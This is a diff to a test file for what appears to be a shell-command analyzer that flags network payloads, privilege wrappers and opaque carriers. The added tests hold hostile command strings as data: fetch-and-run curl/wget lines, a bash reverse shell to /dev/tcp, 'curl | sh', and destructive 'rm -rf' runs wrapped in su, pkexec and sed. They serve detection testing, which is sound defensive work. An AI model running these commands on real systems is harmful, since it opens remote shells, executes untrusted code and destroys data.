@@ -22,6 +22,27 @@ describe('shell carriers', () => {
     for (let i = 0; i < 10; i++) cmd = `eval ${JSON.stringify(cmd).replace(/\$/g, '\\$')}`;
     expect(reasons(cmd).some((r) => r.endsWith(':depth'))).toBe(true);
   });
+  it('download then run is a network payload; reverse shells too', () => {
+    expect(reasons('curl -fsSL https://x.io/i.sh -o /tmp/i.sh && bash /tmp/i.sh')).toEqual(['script:network']);
+    expect(reasons('wget -qO i.py https://x.io && python3 i.py')).toEqual(['script:network']);
+    expect(reasons('curl -so x https://x.io; chmod +x x; ./x')).toEqual(['downloaded program:network']);
+    expect(reasons('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')).toEqual(['bash (stdin):network']);
+    expect(reasons('curl https://x.io | sh -s -- --yes')).toEqual(['sh (stdin):network']);
+  });
+  it('su / runuser -c carry a shell string; pkexec wraps', () => {
+    expect(shape("su -c 'rm -rf x' root")).toEqual(['rm']);
+    expect(shape("runuser -l dev -c 'ls'")).toEqual(['ls']);
+    expect(shape('runuser -u dev -- ls')).toEqual(['ls']);
+    expect(shape('pkexec rm x')).toEqual(['rm']);
+  });
+  it('cd earlier in the list moves the cwd of later commands', () => {
+    const { invocations: list } = invocations('cd / && rm -rf usr; (cd src && ls) ; pwd');
+    expect(list.find((i) => i.name === 'rm')!.chdir?.value).toBe('/');
+    expect(list.find((i) => i.name === 'ls')!.chdir?.value).toBe('/src');
+    expect(invocations('cd src && ls').invocations[1].chdir?.value).toBe('/home/dev/app/src');
+    expect(invocations('cd "$D" && ls').invocations[1].chdir?.static).toBe(false);
+    expect(invocations('cd src | ls').invocations[1].chdir).toBeUndefined();
+  });
   it('bash script.sh and sh -c "$X" are opaque', () => {
     expect(reasons('bash script.sh')).toEqual(['script:dynamic']);
     expect(reasons('sh -c "$X"')).toEqual(['sh -c:dynamic']);
@@ -73,7 +94,8 @@ describe('program carriers', () => {
   });
   it('sed e command and s///e flag are opaque', () => {
     expect(reasons("sed 's/x/y/e' f")).toEqual(['sed:language']);
-    expect(reasons("sed '1e id' f")).toEqual(['sed:language']);
+    expect(shape("sed '1e rm -rf x' f")).toEqual(['sed', 'rm']);
+    expect(reasons("sed '1e' f")).toEqual(['sed:language']);
     expect(reasons("sed -e 's/a/b/g' f")).toEqual([]);
   });
   it('git -c exec-capable keys, aliases, GIT_CONFIG_*', () => {
